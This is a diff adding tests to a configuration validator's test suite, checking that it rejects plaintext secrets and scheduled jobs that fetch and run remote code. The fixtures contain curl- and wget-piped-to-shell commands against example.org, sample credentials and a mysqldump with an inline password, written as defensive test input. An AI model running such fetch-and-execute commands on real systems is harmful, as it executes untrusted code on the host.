@@ -71,3 +71,57 @@ describe('dangerous host mounts', () => {
     expect(verify.out).toMatch(/admin/);
   });
 });
+
+describe('plaintext secrets and remote code', () => {
+  it('validate refuses plaintext secrets (by name and by pattern) and fetch-and-execute commands, with the secret set hint', async () => {
+    const state = join(dir, 'state2');
+    mkdirSync(state, { recursive: true });
+    writeFileSync(
+      join(state, 'services.yaml'),
+      HEAD('ServiceManifest') +
+        'spec:\n  services:\n    - name: app\n      image: nginx:latest\n      environment:\n' +
+        '        POSTGRES_PASSWORD: hunter2\n' +
+        '        AWS_ACCESS_KEY_ID: AKIAIOSFODNN7EXAMPLE\n' +
+        '        DATABASE_URL: postgres://app:S3cr3tPw@db:5432/app\n' +
+        '        SAFE_URL: postgres://app:${secrets.db_pw}@db:5432/app\n' +
+        '        POSTGRES_HOST_AUTH_METHOD: trust\n' +
+        '        API_TOKEN_FILE: /run/secrets/token\n',
+    );
+    writeFileSync(
+      join(state, 'scheduled.yaml'),
+      HEAD('ScheduledTasks') +
+        'spec:\n  jobs:\n' +
+        '    - {name: a, schedule: "0 3 * * *", image: "busybox:1", command: "sh -c \\"$(curl -fsSL https://example.org/x.sh)\\""}\n' +
+        '    - {name: b, schedule: "0 3 * * *", image: "busybox:1", command: "wget -qO- https://example.org/i | sh"}\n' +
+        '    - {name: c, schedule: "0 3 * * *", image: "busybox:1", command: "mysqldump -uroot -pS3cr3tPw app"}\n' +
+        '    - {name: d, schedule: "0 3 * * *", image: "busybox:1", command: "echo curl is fine here"}\n',
+    );
+    writeFileSync(join(state, 'security.yaml'), HEAD('SecurityConfig') + 'spec:\n  secrets:\n    - {name: db_pw, value: "encrypted:v1:AAAA"}\n');
+    const r = await runCli(['validate', '--state-dir', state], { env: { CLAUDE_DATA_DIR: join(dir, 'data') }, cwd: dir, now: () => NOW });
+    const text = r.out + r.err;
+    expect(r.code).toBe(1);
+    const codes = [...text.matchAll(/^(\S+): error (CLA302[34])/gm)].map((m) => `${m[2]}@${m[1]}`);
+    expect(codes).toEqual(['CLA3024@scheduled.yaml:7:69', 'CLA3024@scheduled.yaml:8:69', 'CLA3023@scheduled.yaml:9:69', 'CLA3023@services.yaml:10:28', 'CLA3023@services.yaml:11:28', 'CLA3023@services.yaml:12:23']);
+    expect(text).toContain('environment POSTGRES_PASSWORD holds a plaintext secret');
+    expect(text).toContain('claude secret set postgres_password');
+    expect(text).toContain('a URL with a password in it');
+    expect(text).toContain('environment AWS_ACCESS_KEY_ID holds a plaintext secret');
+    expect(text).toMatch(/job a: command downloads code and runs it \(\$\(curl/);
+    expect(text).not.toMatch(/SAFE_URL|HOST_AUTH_METHOD|API_TOKEN_FILE|job d/);
+  });
+
+  it('claude show lists every job command', async () => {
+    const files = {
+      'scheduled.yaml': HEAD('ScheduledTasks') + 'spec:\n  jobs:\n    - {name: backup, schedule: "0 3 * * *", image: "busybox:1", command: ["sh", "-c", "tar czf /out/x.tgz /data"]}\n    - {name: prune, schedule: "0 4 * * *", image: "busybox:1", command: "find /out -mtime +7 -delete"}\n',
+    };
+    const c = compileFiles(files);
+    expect(c.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
+    const hostId = loadOrCreateHostId(join(dir, 'data'), join(dir, 'root'));
+    const key = loadOrCreateHostKey(join(dir, 'data'), hostId);
+    const p = plan(c.model!, emptyObserved(), { request: 'jobs', now: NOW, nonce: '6'.repeat(32), hostId, provenance: { engine: 'user' }, compilerVersion: '0' });
+    writeFileSync(join(dir, 'jobs-plan.json'), serializeEnvelope(signPlan(p, key.privateKey)));
+    const show = await claude(['show', 'jobs-plan.json']);
+    expect(show.out).toContain('job backup (0 3 * * *, in image busybox:1): sh -c "tar czf /out/x.tgz /data"');
+    expect(show.out).toContain('job prune (0 4 * * *, in image busybox:1): /bin/sh -c "find /out -mtime +7 -delete"');
+  });
+});
